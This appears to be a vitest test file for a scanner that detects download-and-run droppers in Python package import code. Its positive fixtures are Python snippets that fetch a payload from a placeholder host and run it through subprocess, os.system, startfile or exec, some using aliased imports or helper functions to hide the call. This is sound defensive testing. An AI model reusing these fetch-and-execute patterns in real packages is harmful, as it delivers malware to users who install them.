/**
 * Downloads followed through a module's own functions, imported names and modes held in names
 * (src/checks/lib/python-functions.ts, download-calls.ts, saved-downloads.ts), read by the
 * import-time code classifier. The positives are the shapes droppers uploaded to PyPI take (a
 * `fetch(url, dest)` helper, a helper returning the payload's bytes or its path, `from wget import
 * download`, `import requests as r`, a function given the payload as a parameter); each negative is the same shape doing what builds and
 * libraries do: a data file downloaded and read, a mode name used for reading, a path only read.
 */
import { describe, expect, it } from 'vitest';
import { downloadCalls } from '../../src/checks/lib/download-calls.js';
import { readImportCode } from '../../src/checks/lib/import-code.js';
import { flowText } from '../../src/checks/lib/python-flow.js';
import { argumentFor, callSitesOf, enclosingFunction, functionsOf } from '../../src/checks/lib/python-functions.js';

describe("a Python module's functions", () => {
  const text = [
    'import os',
    'def fetch(url, dest=None, *rest, **kw):',
    '    """Fetch."""',
    '    def inner(x): return x',
    '',
    '    if dest:',
    '        return dest',
    'class A:',
    '    def get(self, u):',
    '        return self.s.get(u)',
    '    def run(self):',
    '        return self.get("u")',
    'fetch("u", "p")',
    'fetch(dest="q", url="u")',
    'A().get("v")',
  ].join('\n');
  const flow = flowText(text);
  const functions = functionsOf(flow);

  it('are read with their parameters, body lines and returns', () => {
    expect(functions.map((f) => [f.name, f.params, f.line, f.end])).toEqual([
      ['fetch', ['url', 'dest', 'rest', 'kw'], 1, 6],
      ['inner', ['x'], 3, 3],
      ['get', ['self', 'u'], 8, 9],
      ['run', ['self'], 10, 11],
    ]);
    expect(functions[0]?.returns.map((r) => r.value)).toEqual(['dest']);
    expect(functions[1]?.returns.map((r) => r.value)).toEqual(['x']);
  });

  it('give the innermost function around a line, none outside', () => {
    expect(enclosingFunction(functions, 6)?.name).toBe('fetch');
    expect(enclosingFunction(functions, 9)?.name).toBe('get');
    expect(enclosingFunction(functions, 12)).toBeUndefined();
  });

  it('give the argument each call passes a parameter, by position or keyword, a method\'s receiver skipped (calls on self only: another object\'s get is not this one)', () => {
    const sites = callSitesOf(flow, functions);
    const fetch = functions[0];
    const get = functions[2];
    if (fetch === undefined || get === undefined) throw new Error('functions not read');
    expect(sites('fetch').map((s) => argumentFor(fetch, 'dest', s))).toEqual(['"p"', '"q"']);
    expect(sites('get').map((s) => argumentFor(get, 'u', s))).toEqual(['"u"']);
    expect(sites('inner')).toEqual([]);
  });

  it('end where a line is as shallow as the def, comments and blank lines aside; Windows line ends read', () => {
    const crlf = functionsOf(flowText('def f(a):\r\n    x = a\r\n\r\n    return x\r\ny = 1\r\n'));
    expect(crlf.map((f) => [f.line, f.end, f.returns.length])).toEqual([[0, 3, 1]]);
  });
});

describe('download calls under the names a module gives them', () => {
  it.each([
    ['import requests as r', 'r.get(u)'],
    ['import httpx as h', 'h.Client()'],
    ['from requests import get', 'get(u)'],
    ['from urllib.request import urlopen as uo', 'uo(u)'],
    ['from urllib.request import (\n    Request,\n    urlretrieve as fetch,\n)', 'fetch(u, p)'],
    ['from wget import download', 'download(u)'],
    ['import wget as w', 'w.download(u)'],
  ])('%s: %s reads the network', (imports, call) => {
    expect(downloadCalls(flowText(`${imports}\n`)).downloaded().test(call)).toBe(true);
  });

  it.each([
    ['no import of them', '', 'get(u)'],
    ['a dict get', 'from requests import get', 'd.get(u)'],
    ['a local module named like a library', 'import mylib as r', 'r.get(u)'],
  ])('%s: %s does not', (_name, imports, call) => {
    expect(downloadCalls(flowText(`${imports}\n`)).downloaded().test(call)).toBe(false);
  });

  it('tells how a save call saves: urlretrieve and wget by their imported names too', () => {
    const calls = downloadCalls(flowText('from urllib.request import urlretrieve as get\nfrom wget import download as dl\n'));
    expect(['get(', 'dl(', 'urlretrieve(', 'wget.download(', '.write_bytes(', 'open('].map((m) => calls.kindOf(m))).toEqual(['retrieve', 'wget', 'retrieve', 'wget', 'method', 'open']);
  });

  it("counts a function returning downloaded data as a download, not one returning a pipe's recv()", () => {
    const calls = downloadCalls(flowText('def dl(u):\n    r = urlopen(u)\n    return r.read()\ndef ask(c):\n    kind, result = c.recv()\n    return result\n'));
    expect(calls.downloaded().test('dl(u)')).toBe(true);
    expect(calls.downloaded().test('ask(c)')).toBe(false);
  });
});

describe('a download run through the module\'s own functions and imported names', () => {
  it.each([
    ['a fetch(url, dest) helper, its destination started', 'import urllib.request, subprocess\ndef fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n\np = "/tmp/x.bin"\nfetch("http://e.test/a", p)\nsubprocess.Popen([p])\n'],
    ['a helper writing the response to its parameter, run by the literal path', 'import requests, subprocess\ndef fetch(url, dest):\n    r = requests.get(url)\n    with open(dest, "wb") as f:\n        f.write(r.content)\n\nfetch("http://e.test/a", "/tmp/a")\nsubprocess.call(["/tmp/a"])\n'],
    ['the destination by keyword', 'import subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch(dest="/tmp/a", url="http://e.test/a")\nsubprocess.call(["sh", "/tmp/a"])\n'],
    ['a helper returning the saved path', 'import os, tempfile, subprocess, urllib.request\ndef fetch(url):\n    p = os.path.join(tempfile.gettempdir(), "u.bin")\n    urllib.request.urlretrieve(url, p)\n    return p\n\nx = fetch("http://e.test/a")\nsubprocess.Popen([x])\n'],
    ['a helper returning the saved path, called in the process list', 'import subprocess, sys, urllib.request\ndef fetch(url):\n    urllib.request.urlretrieve(url, "s.py")\n    return "s.py"\n\nsubprocess.Popen([sys.executable, fetch("http://e.test/a")])\n'],
    ['a helper returning downloaded bytes, written and run', 'import os\nfrom urllib.request import urlopen\ndef dl(url):\n    return urlopen(url).read()\n\nd = dl("http://e.test/a")\nwith open("/tmp/a", "wb") as f:\n    f.write(d)\nos.system("/tmp/a")\n'],
    ['a one-line helper', 'import os, urllib.request\ndef d(u): return urllib.request.urlopen(u).read()\nopen("x.exe", "wb").write(d("http://e.test/a"))\nos.system("x.exe")\n'],
    ['a method returning the payload, called on self', 'import requests, subprocess\nclass A:\n    def get_payload(self, u):\n        return requests.get(u).content\n    def run(self):\n        data = self.get_payload("http://e.test/a")\n        with open("/tmp/p", "wb") as f:\n            f.write(data)\n        subprocess.Popen(["/tmp/p"])\n'],
    ['a helper\'s data handed to exec', 'import requests\ndef stage(u):\n    r = requests.get(u)\n    return r.text\n\nexec(stage("http://e.test/a"))\n'],
    ['the mode in a name', 'import requests, subprocess\nr = requests.get("http://e.test/a")\nmode = "wb"\nf = open("/tmp/a", mode)\nf.write(r.content)\nf.close()\nsubprocess.Popen(["/tmp/a"])\n'],
    ['the mode in a name given by keyword', 'import requests, subprocess\nr = requests.get("http://e.test/a")\nm = "ab"\nwith open("/tmp/a", mode=m) as f:\n    f.write(r.content)\nsubprocess.Popen(["/tmp/a"])\n'],
    ['io.open with the mode by keyword', 'import io, requests, subprocess\nr = requests.get("http://e.test/a")\nwith io.open("/tmp/a", mode="wb") as f:\n    f.write(r.content)\nsubprocess.Popen(["/tmp/a"])\n'],
    ['codecs.open', 'import codecs, requests, subprocess\nr = requests.get("http://e.test/a")\nwith codecs.open("/tmp/a", "wb") as f:\n    f.write(r.content)\nsubprocess.Popen(["/tmp/a"])\n'],
    ['from wget import download', 'import subprocess\nfrom wget import download\ndownload("http://e.test/a", "/tmp/a")\nsubprocess.Popen(["/tmp/a"])\n'],
    ['urlretrieve imported as get', 'import subprocess\nfrom urllib.request import urlretrieve as get\nget("http://e.test/a", "/tmp/a")\nsubprocess.Popen(["/tmp/a"])\n'],
    ['requests imported as r, the response written and run', 'import requests as r, subprocess\nd = r.get("http://e.test/a").content\nopen("/tmp/a", "wb").write(d)\nsubprocess.Popen(["/tmp/a"])\n'],
    ['requests imported as r, the text handed to exec', 'import requests as r\nexec(r.get("http://e.test/a").text)\n'],
    ['requests.get imported by name, handed to exec', 'from requests import get\nexec(get("http://e.test/a").text)\n'],
    ['downloaded text passed to a function that execs its parameter', 'import requests\ndef run(code):\n    exec(code)\n\nrun(requests.get("http://e.test/a").text)\n'],
    ['downloaded bytes passed to a function that writes its parameter, then started', 'import os, requests\ndef save(data, p):\n    with open(p, "wb") as f:\n        f.write(data)\n\nsave(requests.get("http://e.test/a").content, "/tmp/a")\nos.system("/tmp/a")\n'],
    ['subprocess imported under another name', 'import subprocess as _s, urllib.request\nurllib.request.urlretrieve("http://e.test/a", "/tmp/a")\n_s.Popen(["/tmp/a"])\n'],
    ['os imported under another name, startfile', 'import os as _o\nfrom urllib.request import urlretrieve\nurlretrieve("http://e.test/a", "a.exe")\n_o.startfile("a.exe")\n'],
  ])('%s: download-and-run', (_name, text) => {
    expect(readImportCode(text).flags).toEqual(['download-and-run']);
  });

  it.each([
    ['a setup.py helper downloading a data file that is only read', 'import json, subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch("http://e.test/data.json", "data.json")\nsubprocess.check_call(["tar", "xf", "data.json"])\nwith open("data.json") as f:\n    DATA = json.load(f)\n'],
    ['a helper\'s parameter saved, another program run', 'import subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch("http://e.test/a.tgz", "a.tgz")\nsubprocess.check_call(["./configure"])\n'],
    ['a function that execs its parameter, given a local file', 'import requests\ndef run(code):\n    exec(code)\n\nrun(open("x.py").read())\nrequests.get("http://e.test/a")\n'],
    ['a function that writes its parameter, given local bytes, then started', 'import os, requests\ndef save(data, p):\n    with open(p, "wb") as f:\n        f.write(data)\n\nsave(b"x", "/tmp/a")\nos.system("/tmp/a")\nrequests.get(u)\n'],
    ['subprocess under another name running a fixed tool', 'import subprocess as sp\nfrom urllib.request import urlretrieve\nurlretrieve("http://e.test/a.tgz", "a.tgz")\nsp.check_call(["tar", "xzf", "a.tgz"])\n'],
    ['a mode name used for reading', 'import requests, subprocess\nr = requests.get("http://e.test/a")\nmode = "rb"\nf = open("/tmp/a", mode)\nf.write(r.content)\nsubprocess.Popen(["/tmp/a"])\n'],
    ['a function that takes a path and only reads it', 'import sys, subprocess\nimport requests\ndef load(path):\n    with open(path) as f:\n        return f.read()\n\np = "build.py"\nv = load(p)\nr = requests.get("http://e.test/v")\nsubprocess.check_call([sys.executable, p])\n'],
    ['a helper returning a saved archive, unpacked by tar', 'import os, subprocess, urllib.request\ndef fetch(url):\n    p = os.path.join("build", "src.tar.gz")\n    urllib.request.urlretrieve(url, p)\n    return p\n\nx = fetch("http://e.test/a")\nsubprocess.check_call(["tar", "xzf", x])\nsubprocess.check_call(["make"])\n'],
    ['a helper returning JSON metadata, a fixed command run', 'import subprocess, requests as r\ndef meta(u):\n    return r.get(u).json()\n\ninfo = meta("http://e.test/m")\nsubprocess.check_call(["git", "clone", "https://e.test/repo"])\n'],
    ['a pipe\'s reply handed to exec (multiprocessing managers)', 'def dispatch(c, name):\n    c.send(name)\n    kind, result = c.recv()\n    return result\n\nexposed = dispatch(conn, "get_methods")\nfor meth in exposed:\n    exec("def %s(self): pass" % meth, dic)\n'],
  ])('%s: clean', (_name, text) => {
    expect(readImportCode(text).flags).toEqual([]);
  });
});
